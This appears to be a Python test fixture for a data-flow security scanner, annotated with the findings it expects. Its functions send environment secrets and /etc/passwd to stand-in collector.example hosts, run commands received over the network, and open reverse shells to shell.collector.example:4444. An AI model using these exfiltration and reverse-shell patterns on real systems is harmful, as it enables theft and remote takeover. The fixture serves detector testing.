"""Sockets, TLS, socket servers, asyncio streams, telnet, raw packets."""
import asyncio
import os
import select
import socket
import subprocess
import socketserver
import ssl
import telnetlib

import requests
from impacket import ImpactPacket
from scapy.all import Dot11, IP, Raw, send, sniff

U = "https://collector.example/u"


def make_socket():
    s = socket.socket()  #~ capability(NETWORK)
    s.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f1, sink(egress.socket) f1, finding(traced) f1


def connect_to():
    s = socket.create_connection(("drop.collector.example", 443))  #~ capability(NETWORK), endpoint("drop.collector.example")
    s.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f2, sink(egress.socket) f2, finding(traced) f2


def connected():
    s = socket.socket()  #~ ok
    s.connect(("tcp.collector.example", 443))  #~ endpoint("tcp.collector.example")
    s.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3


def datagram():
    s = socket.socket()
    s.sendto(os.getenvb(b"T"), ("udp.collector.example", 53))  #~ source(ENVIRONMENT) f4, sink(egress.socket) f4, finding(traced) f4, endpoint("udp.collector.example")


def whole_file():
    s = socket.socket()
    s.sendfile(open("/etc/passwd", "rb"))  #~ source(FILE) f5, sink(egress.socket) f5, finding(traced) f5


def sent_constants():
    s = socket.create_connection(("drop.collector.example", 443))  #~ ok
    s.connect(("tcp.collector.example", 443))  #~ ok
    s.sendall(b"ping")  #~ ok
    s.sendto(b"ping", ("udp.collector.example", 53))  #~ ok
    s.sendfile(open("/etc/passwd", "wb"))  #~ ok


def received():
    s = socket.socket()
    os.system(s.recv(100))  #~ source(NETWORK) f7, sink(exec.command) f7, finding(traced) f7


def received_into():
    s = socket.socket()
    buffer = bytearray(100)
    s.recv_into(buffer)  #~ source(NETWORK) f8
    os.system(buffer)  #~ sink(exec.command) f8, finding(traced) f8


def stream_in():
    s = socket.socket()
    f = s.makefile("r")  #~ source(NETWORK) f9
    os.system(f.readline())  #~ sink(exec.command) f9, finding(traced) f9


def stream_out():
    s = socket.socket()
    f = s.makefile("w")
    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f10, sink(egress.socket) f10, finding(traced) f10


def own_address():
    s = socket.socket()
    address = s.getsockname()  #~ source(DEVICE) f11
    requests.post(U, data=address[0])  #~ sink(egress.http) f11, finding(traced) f11


def listening():
    s = socket.socket()
    s.bind(("127.0.0.1", 80))  #~ ok
    s.setsockopt(1, 2, os.getenv("T"))  #~ ok
    requests.post(U, data=str(s))  #~ ok
    requests.post(U, data={"done": s.recv(1) == b""})  #~ ok
    requests.post(U, data={"n": s.recv_into(bytearray(1)) == 0})  #~ ok
    f = s.makefile("rw")  #~ ok
    f.write("ready")  #~ ok
    requests.post(U, data={"go": f.readline() == "go"})  #~ ok
    requests.post(U, data={"same": s.getsockname()[0] == "127.0.0.1"})  #~ ok


def bound(s: socket.socket):
    s.bind(("127.0.0.1", 80))  #~ capability(NETWORK)


def pair():
    a, b = socket.socketpair()  #~ capability(IPC)
    a, b = socket.socketpair()  #~ ok


def accepted():
    server = socket.socket()
    client, address = server.accept()
    client.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f15, sink(egress.socket) f15, finding(traced) f15


def commanded():
    server = socket.socket()
    client, address = server.accept()
    os.system(client.recv(100))  #~ source(NETWORK) f16, sink(exec.command) f16, finding(traced) f16


def accepted_constant():
    server = socket.socket()
    client, address = server.accept()
    client.sendall(b"hello")  #~ ok
    requests.post(U, data={"bye": client.recv(100) == b"bye"})  #~ ok


def wrapped_old():
    s = ssl.wrap_socket(socket.socket())  #~ capability(NETWORK)
    s.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18


def wrapped():
    context = ssl.create_default_context()
    s = context.wrap_socket(socket.socket(), server_hostname="tls.collector.example")  #~ capability(NETWORK), endpoint("tls.collector.example")
    s.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f19, sink(egress.socket) f19, finding(traced) f19


def wrapped_constant():
    ssl.wrap_socket(socket.socket()).write(b"ping")  #~ ok
    ssl.create_default_context().wrap_socket(socket.socket()).write(b"ping")  #~ ok


def certificate():
    pem = ssl.get_server_certificate(("cert.collector.example", 443))  #~ source(NETWORK) f21, capability(NETWORK)
    os.system(pem)  #~ sink(exec.command) f21, finding(traced) f21


def certificate_compared():
    requests.post(U, data={"pinned": ssl.get_server_certificate(("cert.collector.example", 443)) == "x"})  #~ ok


def ready_sockets():
    readable, writable, failed = select.select([os.getenv("T")], [], [])  #~ source(ENVIRONMENT) f23
    requests.post(U, data=readable)  #~ sink(egress.http) f23, finding(traced) f23


def others_ready():
    readable, writable, failed = select.select([os.getenv("T")], [], [])  #~ ok
    requests.post(U, data=writable)  #~ ok


class Commands(socketserver.StreamRequestHandler):
    def handle(self):
        os.system(self.rfile.readline())  #~ source(NETWORK) f25, sink(exec.command) f25, finding(traced) f25


class Leak(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f26, sink(egress.socket) f26, finding(traced) f26


class Datagram(socketserver.BaseRequestHandler):
    def handle(self):
        buffer = bytearray(10)
        self.request.recv_into(buffer)  #~ source(NETWORK) f27
        os.system(buffer)  #~ sink(exec.command) f27, finding(traced) f27


class Echo(socketserver.StreamRequestHandler):
    def handle(self):
        requests.post(U, data={"bye": self.rfile.readline() == b""})  #~ ok
        self.wfile.write(b"hello")  #~ ok
        self.request.sendall(b"hello")  #~ ok


def serve():
    socketserver.TCPServer(("", 80), Echo)  #~ capability(NETWORK)
    socketserver.TCPServer(("", 80), Echo)  #~ ok


async def stream_read():
    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ source(NETWORK) f30, capability(NETWORK), endpoint("aio.collector.example")
    os.system(await reader.read(100))  #~ sink(exec.command) f30, finding(traced) f30


async def stream_read_exactly():
    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ source(NETWORK) f31
    os.system(await reader.readexactly(100))  #~ sink(exec.command) f31, finding(traced) f31


async def stream_write():
    reader, writer = await asyncio.open_connection("aio.collector.example", 443)
    writer.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f32
    await writer.drain()  #~ sink(egress.socket) f32, finding(traced) f32


async def stream_constant():
    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ ok
    writer.write(b"ping")  #~ ok
    await writer.drain()  #~ ok
    requests.post(U, data={"bye": await reader.readexactly(3) == b"bye"})  #~ ok


async def on_client(reader, writer):
    os.system(reader.read(10))  #~ sink(exec.command) fserver, finding(traced) fserver


async def on_quiet_client(reader, writer):
    requests.post(U, data={"bye": reader.read(10) == b"bye"})  #~ ok


async def stream_server():
    await asyncio.start_server(on_client, "", 80)  #~ source(NETWORK) fserver, capability(NETWORK)
    await asyncio.start_server(on_quiet_client, "", 80)  #~ ok


async def typed_reader(reader: asyncio.StreamReader):
    os.system(await reader.readline())  #~ source(NETWORK) f37, sink(exec.command) f37, finding(traced) f37


async def typed_writer(writer: asyncio.StreamWriter):
    writer.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f38, sink(egress.socket) f38, finding(traced) f38


async def typed_constants(reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
    writer.write(b"ping")  #~ ok
    requests.post(U, data={"bye": await reader.readline() == b"bye"})  #~ ok


async def loop_send(loop, s):
    await loop.sock_sendall(s, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f40, sink(egress.socket) f40, finding(traced) f40, capability(NETWORK)


async def loop_receive(loop, s):
    os.system(await loop.sock_recv(s, 100))  #~ source(NETWORK) f41, sink(exec.command) f41, finding(traced) f41


async def loop_constants(loop, s):
    await loop.sock_sendall(s, b"ping")  #~ ok
    requests.post(U, data={"bye": await loop.sock_recv(s, 3) == b"bye"})  #~ ok


def telnet_write():
    t = telnetlib.Telnet("telnet.collector.example")  #~ capability(NETWORK), endpoint("telnet.collector.example")
    t.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f43, sink(egress.socket) f43, finding(traced) f43


def telnet_read():
    t = telnetlib.Telnet("telnet.collector.example")
    os.system(t.read_until(b"\n"))  #~ source(NETWORK) f44, sink(exec.command) f44, finding(traced) f44


def telnet_constants():
    t = telnetlib.Telnet("telnet.collector.example")  #~ ok
    t.write(b"ls")  #~ ok
    requests.post(U, data={"bye": t.read_until(b"\n") == b"bye"})  #~ ok


def packet():
    send(IP(dst="192.0.2.7") / Raw(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f46, sink(egress.socket) f46, finding(traced) f46, capability(NETWORK)


def packet_sniffed():
    packets = sniff(count=1)  #~ source(NETWORK) f47, capability(NETWORK)
    os.system(packets[0].load)  #~ sink(exec.command) f47, finding(traced) f47


def packet_constants():
    send(IP(dst="192.0.2.7") / Raw(b"ping"))  #~ ok
    requests.post(U, data={"quiet": sniff(count=1) == []})  #~ ok


def packet_filled():
    packet = Dot11(addr1="00:00:00:00:00:42")
    packet.add_payload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f90
    send(packet)  #~ sink(egress.socket) f90, finding(traced) f90


def packet_filled_constant():
    packet = Dot11(addr1="00:00:00:00:00:42")
    packet.add_payload(b"ping")  #~ ok
    send(packet)  #~ ok


def echo(s: socket.socket):
    ip = ImpactPacket.IP()
    icmp = ImpactPacket.ICMP()
    icmp.contains(ImpactPacket.Data(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f91
    ip.contains(icmp)
    s.sendto(ip.get_packet(), ("icmp.collector.example", 0))  #~ sink(egress.socket) f91, finding(traced) f91


def echo_constant(s: socket.socket):
    ip = ImpactPacket.IP()  #~ ok
    ip.contains(ImpactPacket.Data(b"ping"))  #~ ok
    s.sendto(ip.get_packet(), ("icmp.collector.example", 0))  #~ ok


def printed(s: socket.socket):
    out = s.makefile("w")  #~ sink(egress.socket) f92, finding(traced) f92
    print(os.getenv("T"), file=out)  #~ source(ENVIRONMENT) f92


def printed_constant(s: socket.socket):
    print("ping", file=s.makefile("w"))  #~ ok


def connection_as_input():
    s = socket.create_connection(("shell.collector.example", 4444))
    os.dup2(s.fileno(), 0)  #~ source(NETWORK) fshell, sink(exec.command) fshell, finding(traced) fshell, capability(EXEC)
    os.dup2(s.fileno(), 1)  #~ ok
    os.dup2(s.fileno(), 2)  #~ ok


def connection_as_inputs():
    s = socket.create_connection(("shell.collector.example", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)  #~ source(NETWORK) fshell2, sink(exec.command) fshell2, finding(traced) fshell2


def connection_of_a_process():
    s = socket.create_connection(("shell.collector.example", 4444))
    subprocess.Popen(["/bin/sh"], stdin=s.fileno())  #~ source(NETWORK) fshell3, sink(exec.command) fshell3, finding(traced) fshell3, capability(EXEC)
    subprocess.Popen(["/bin/sh"], stdout=s.fileno())  #~ ok
    print(s.fileno())  #~ ok
